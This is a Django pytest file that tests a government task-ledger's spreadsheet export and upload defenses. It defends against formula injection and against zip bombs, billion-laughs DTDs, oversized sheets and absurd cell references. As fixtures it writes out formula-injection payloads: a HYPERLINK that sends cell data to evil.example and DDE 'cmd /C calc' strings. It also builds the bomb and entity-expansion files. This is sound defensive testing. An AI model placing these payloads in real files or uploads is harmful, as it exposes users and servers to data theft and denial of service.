"""The ledger on a government network: what goes out is never a live formula, what comes in is
refused by what it would unpack to before anything parses it.

alice (clerk of 财政局) writes progress notes an attacker would like (=HYPERLINK…, +, -, @) and
exports them; carol (supervisor) uploads files built to hurt: a 300 MB shared string packed
into a few hundred KB, sheets past the row, column and cell-length bounds, a DTD.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import resource
import tracemalloc
import zipfile
from collections.abc import Callable
from xml.etree import ElementTree

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import factories
from tracker import actions, ledger, spreadsheet
from tracker.models import Task

pytestmark = pytest.mark.django_db

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SHEET = "xl/worksheets/sheet1.xml"
NOTES = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# A note is stripped when written, so text starting with tab or CR reaches the ledger as a title.
TITLES = {"\t": "\t=1+2 标题以制表符开头", "\r": "\r=1+2 标题以回车开头"}


def export(client, user, fmt: str = "xlsx") -> bytes:
    client.force_login(user)
    response = client.get(reverse("tracker:ledger_export") + f"?fmt={fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        return b"".join(response.streaming_content)
    return response.content


def upload(client, user, data: bytes, name: str = "台账.xlsx"):
    client.force_login(user)
    file = io.BytesIO(data)
    file.name = name
    return client.post(reverse("tracker:ledger_upload"), {"file": file})


def rewrite(data: bytes, change: Callable[[zipfile.ZipFile, zipfile.ZipFile], None]) -> bytes:
    """Copy an XLSX member by member, then let ``change`` add or replace members."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst,
    ):
        change(src, dst)
        written = set(dst.namelist())
        for member in src.infolist():
            if member.filename not in written:
                dst.writestr(member.filename, src.read(member))
    return out.getvalue()


def _charrefs(text: bytes) -> bytes:
    """``text`` as an XML writer may store it: non-ASCII as numeric references (openpyxl does
    so when lxml is installed)."""
    return text.decode().encode("ascii", "xmlcharrefreplace")


def replace_in_sheet(data: bytes, old: bytes, new: bytes) -> bytes:
    def change(src, dst):
        xml = src.read(SHEET)
        for before, after in ((old, new), (_charrefs(old), _charrefs(new))):
            if before in xml:
                dst.writestr(SHEET, xml.replace(before, after, 1))
                return
        raise AssertionError(f"{old!r} is not in the sheet")

    return rewrite(data, change)


def with_shared_strings(data: bytes, write_text: Callable[[io.RawIOBase], None]) -> bytes:
    """The XLSX with an xl/sharedStrings.xml whose one string ``write_text`` streams out
    (deflated), and the first data cell of the sheet pointing at it, as Excel would write it."""

    def change(src, dst):
        with dst.open("xl/sharedStrings.xml", "w") as out:  # the archive's deflate
            out.write(b'<?xml version="1.0" encoding="UTF-8"?>')
            out.write(f'<sst xmlns="{MAIN[1:-1]}" count="1" uniqueCount="1"><si><t>'.encode())
            write_text(out)
            out.write(b"</t></si></sst>")
        types = src.read("[Content_Types].xml").replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )
        dst.writestr("[Content_Types].xml", types)
        sheet = re.sub(
            rb'<c r="C2"([^>]*) t="inlineStr"><is>.*?</is></c>',
            rb'<c r="C2"\1 t="s"><v>0</v></c>',
            src.read(SHEET),
            count=1,
        )
        dst.writestr(SHEET, sheet)

    return rewrite(data, change)


@pytest.fixture
def tasks(inspection, finance, alice):
    """财政局's tasks: one per formula-like note alice wrote, one per formula-like title."""
    made = []
    for note in NOTES.values():
        task = factories.make_task(inspection, owner=finance, title="财政资金监管不到位")
        actions.record_note(task, note, actions.Actor.of(alice))
        made.append(task)
    for title in TITLES.values():
        made.append(factories.make_task(inspection, owner=finance, title=title))
    return made


# --- out: text stays text --------------------------------------------------------------------


def test_formula_like_notes_export_as_string_cells_and_round_trip_unchanged(client, alice, tasks):
    data = export(client, alice)

    # Given alice's export, when it is read back cell by cell, then every text is a string cell
    # (quote-prefixed where it looks like a formula), and numbers and dates keep their types.
    sheet = load_workbook(io.BytesIO(data)).active
    headers = [c.value for c in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    by_column = {h: [row[i] for row in rows] for i, h in enumerate(headers)}
    notes = by_column["进展情况"][: len(NOTES)]
    assert [c.value for c in notes] == list(NOTES.values())
    titles = by_column["问题"][len(NOTES) :]
    # A stored CR reads back as CR or as LF, by XML writer; the upload compares both as LF
    # (see the round trip).
    assert [c.value.replace("\r", "\n") for c in titles] == [
        t.replace("\r", "\n") for t in TITLES.values()
    ]
    for cell in notes + titles:
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    for row in rows:
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in by_column["序号"])
    assert all(isinstance(c.value, int) for c in by_column["任务编号"] + by_column["版本"])
    assert all(isinstance(c.value, datetime.datetime) for c in by_column["整改时限"])
    assert by_column["整改时限"][0].number_format == "yyyy-mm-dd"

    # And the sheet XML itself holds no formula at all.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read(SHEET))
    assert root.findall(f".//{MAIN}f") == []
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(SHEET)

    # When alice uploads her export unedited, then nothing is a change.
    preview = upload(client, alice, data).context["preview"]
    assert preview.notable == [] and preview.change_count == 0


def test_chinese_text_is_stored_as_utf8_not_as_character_references(client, alice, tasks):
    # Given 财政局's ledger, all Chinese text, exported as XLSX
    data = export(client, alice)
    xml = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)
    # Then its text is stored as UTF-8 (3 bytes a character), not as numeric references
    # (&#36130;, 8 bytes a character: a 100,000-row ledger twice the size when unpacked)
    assert "财政资金监管不到位".encode() in xml
    assert re.search(rb"&#\d{4,};", xml) is None
    # and the cells read as they were written
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[1]][:3] == ["序号", "问题类别", "问题"]
    assert sheet.cell(2, 3).value == "财政资金监管不到位"
    # and so are the other workbooks the app writes
    table = spreadsheet.table_xlsx("单位考核", ["单位", "得分"], [["财政局", 98.5]])
    xml = zipfile.ZipFile(io.BytesIO(table)).read(SHEET)
    assert "财政局".encode() in xml and b"&#" not in xml
    assert [c.value for c in load_workbook(io.BytesIO(table)).active[2]] == ["财政局", 98.5]


def test_csv_export_prefixes_formula_like_text_with_a_quote_and_keeps_numbers(client, alice, tasks):
    body = export(client, alice, "csv")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    headers, data = rows[0], rows[1:]
    notes = [r[headers.index("进展情况")] for r in data[: len(NOTES)]]
    titles = [r[headers.index("问题")] for r in data[len(NOTES) :]]
    assert notes == ["'" + n for n in NOTES.values()]
    assert titles == ["'" + t for t in TITLES.values()]
    # Every cell that could start a formula is guarded; numbers and dates are not touched.
    for row in data:
        for cell in row:
            assert not cell.startswith(spreadsheet.FORMULA_TRIGGERS), cell
    assert [r[0] for r in data] == [str(n) for n in range(1, len(data) + 1)]
    assert {r[headers.index("整改时限")] for r in data} == {"2026-11-01"}
    # Reading the CSV back takes off exactly the quote the export added.
    assert [spreadsheet.csv_unguard(n) for n in notes] == list(NOTES.values())
    assert [spreadsheet.csv_unguard(t) for t in titles] == list(TITLES.values())


@pytest.mark.parametrize(
    "text", ["=1", "'=1", "''+1", "'quoted", "plain", "", "中文", "-", "a=1", "''"]
)
def test_the_csv_guard_round_trips_any_text(text):
    guarded = spreadsheet.csv_cell(text)
    assert not str(guarded).startswith(spreadsheet.FORMULA_TRIGGERS)
    assert spreadsheet.csv_unguard(guarded) == text


# --- in: bounded by what the file unpacks to ------------------------------------------------


def test_a_shared_string_bomb_is_refused_before_it_is_unpacked(client, carol, finance_task):
    # Given a ledger whose one shared string is 300 MB of "A", deflated to a few hundred KB
    # (streamed out, so building it costs no memory either).
    def huge(out):
        chunk = b"A" * (1024 * 1024)
        for _ in range(300):
            out.write(chunk)

    bomb = with_shared_strings(export(client, carol), huge)
    assert len(bomb) < 400 * 1024
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        assert archive.getinfo("xl/sharedStrings.xml").file_size > 300 * 1024 * 1024

    # When carol uploads it, then the page says why, naming the file and the limit, and the
    # process never held the string.
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        response = upload(client, carol, bomb, "炸弹.xlsx")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    rss_growth_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before
    assert response.status_code == 200
    assert "文件“炸弹.xlsx”解压后超过 150 MB 的上限,未导入。" in response.content.decode()
    assert "preview" not in response.context
    assert peak < 50 * 1024 * 1024
    assert rss_growth_kb < 100 * 1024


def test_a_compression_ratio_no_sheet_has_is_refused(client, carol, finance_task):
    ten_mb = with_shared_strings(export(client, carol), lambda out: out.write(b"A" * 10_000_000))
    response = upload(client, carol, ten_mb, "压缩.xlsx")
    assert "文件“压缩.xlsx”的压缩比异常(超过 200 倍),未导入。" in response.content.decode()


def test_a_shared_string_past_the_cell_length_is_refused(client, carol, finance_task):
    # Varied text, so the ratio is ordinary and the length is what is judged.
    text = "".join(chr(0x4E00 + (i * 7919) % 20000) for i in range(32768)).encode()
    data = with_shared_strings(export(client, carol), lambda out: out.write(text))
    response = upload(client, carol, data, "长文本.xlsx")
    assert "文件“长文本.xlsx”中有单元格超过 32767 个字符的上限,未导入。" in (
        response.content.decode()
    )


def test_a_cell_of_excels_maximum_length_still_uploads_but_one_more_is_refused(
    client, alice, finance_task
):
    note = "整改" * 16383 + "完"  # 32,767 characters: Excel's own limit
    actions.record_note(finance_task, note, actions.Actor.of(alice))
    data = export(client, alice)
    preview = upload(client, alice, data).context["preview"]
    assert preview.errors == [] and preview.change_count == 0

    longer = replace_in_sheet(data, "完</t>".encode(), "完了</t>".encode())
    body = upload(client, alice, longer, "进展.xlsx").content.decode()
    assert "文件“进展.xlsx”中有单元格超过 32767 个字符的上限,未导入。" in body


def test_too_many_rows_are_refused_naming_the_limit(client, carol, tasks, settings):
    data = export(client, carol)  # a header and six tasks: seven rows
    settings.RECTIFY = {**settings.RECTIFY, "XLSX_MAX_ROWS": 6}
    body = upload(client, carol, data, "六行.xlsx").content.decode()
    assert "文件“六行.xlsx”超过 6 行的上限,未导入。" in body

    settings.RECTIFY = {**settings.RECTIFY, "XLSX_MAX_ROWS": 7}
    assert upload(client, carol, data).context["preview"].errors == []


def test_a_row_far_down_the_sheet_counts_as_all_the_rows_before_it(client, carol, finance_task):
    # openpyxl yields an empty row for every row number skipped: row 200,001 is 200,001 rows.
    data = replace_in_sheet(export(client, carol), b'<row r="2"', b'<row r="200001"')
    body = upload(client, carol, data, "远行.xlsx").content.decode()
    assert "文件“远行.xlsx”超过 200000 行的上限,未导入。" in body


def test_too_many_columns_are_refused_naming_the_limit(client, carol, finance_task):
    # A cell in column AY (51): one column past the default bound of 50.
    data = replace_in_sheet(
        export(client, carol),
        b"</row>",
        b'<c r="AY1" t="inlineStr"><is><t>extra</t></is></c></row>',
    )
    body = upload(client, carol, data, "宽表.xlsx").content.decode()
    assert "文件“宽表.xlsx”超过 50 列的上限,未导入。" in body


def test_a_dimension_claiming_the_whole_sheet_is_refused(client, carol, finance_task):
    # openpyxl's read-only reader pads every row to the <dimension> and yields rows up to it.
    data = replace_in_sheet(
        export(client, carol), b"<sheetViews>", b'<dimension ref="A1:XFD1048576"/><sheetViews>'
    )
    body = upload(client, carol, data, "维度.xlsx").content.decode()
    assert "文件“维度.xlsx”超过 50 列的上限,未导入。" in body


def test_a_dtd_with_entities_is_refused(client, carol, finance_task):
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    )
    data = rewrite(
        export(client, carol),
        lambda src, dst: dst.writestr(
            "xl/workbook.xml",
            laughs + src.read("xl/workbook.xml").split(b"?>", 1)[-1],
        ),
    )
    body = upload(client, carol, data, "实体.xlsx").content.decode()
    assert "文件“实体.xlsx”包含不允许的 XML 声明(DTD),不是正常的 Excel 文件,未导入。" in body


def test_a_zip_of_a_thousand_parts_is_refused_before_its_directory_is_read(carol, client):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(1001):
            archive.writestr(f"x/{n}.xml", b"<a/>")
    body = upload(client, carol, out.getvalue(), "部件.xlsx").content.decode()
    assert "文件“部件.xlsx”包含超过 1000 个部件,不是正常的 Excel 文件,未导入。" in body


def test_limits_come_from_the_settings(settings):
    settings.RECTIFY = {
        **settings.RECTIFY,
        "XLSX_MAX_UNCOMPRESSED_BYTES": 1024,
        "XLSX_MAX_ROWS": 2,
        "XLSX_MAX_COLUMNS": 3,
        "XLSX_MAX_CELL_CHARS": 4,
    }
    assert spreadsheet.Limits.from_settings() == spreadsheet.Limits(1024, 2, 3, 4)


def test_an_ordinary_export_edited_in_a_spreadsheet_still_uploads_and_applies(client, carol, tasks):
    workbook = load_workbook(io.BytesIO(export(client, carol)))
    sheet = workbook.active
    headers = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=headers.index("整改状态") + 1, value="已完成")
    out = io.BytesIO()
    workbook.save(out)
    response = upload(client, carol, out.getvalue())
    preview = response.context["preview"]
    assert preview.errors == [] and preview.change_count == 1
    client.post(reverse("tracker:ledger_confirm"), {"token": response.context["token"]})
    assert Task.objects.get(pk=tasks[0].pk).status == "completed"
    # And the notes that looked like formulas are still exactly what alice wrote.
    assert [Task.objects.get(pk=t.pk).progress for t in tasks[: len(NOTES)]] == list(NOTES.values())


def test_read_ledger_refuses_before_openpyxl_is_asked(monkeypatch, carol, client, finance_task):
    data = replace_in_sheet(
        export(client, carol),
        b"</row>",
        b'<c r="AY1" t="inlineStr"><is><t>extra</t></is></c></row>',
    )
    import openpyxl

    def never(*args, **kwargs):
        raise AssertionError("openpyxl parsed a refused file")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    with pytest.raises(ledger.LedgerError, match="超过 50 列的上限"):
        ledger.read_ledger(data, "宽表.xlsx")


@pytest.mark.parametrize(
    ("dimension", "limit"),
    [
        (b"A1:O99999999999999999999", "超过 200000 行的上限"),
        (b"A1:" + b"Z" * 5000 + b"1", "超过 50 列的上限"),
        (b"A1:O" + b"9" * 5000, "超过 200000 行的上限"),
    ],
)
def test_absurd_references_are_refused_without_computing_them(
    client, carol, finance_task, dimension, limit
):
    data = replace_in_sheet(
        export(client, carol), b"<sheetViews>", b'<dimension ref="' + dimension + b'"/><sheetViews>'
    )
    assert limit in upload(client, carol, data, "引用.xlsx").content.decode()


def test_a_cell_reference_of_thousands_of_letters_is_too_many_columns(client, carol, finance_task):
    data = replace_in_sheet(export(client, carol), b'<c r="A2"', b'<c r="' + b"A" * 5000 + b'2"')
    assert "超过 50 列的上限" in upload(client, carol, data, "列.xlsx").content.decode()
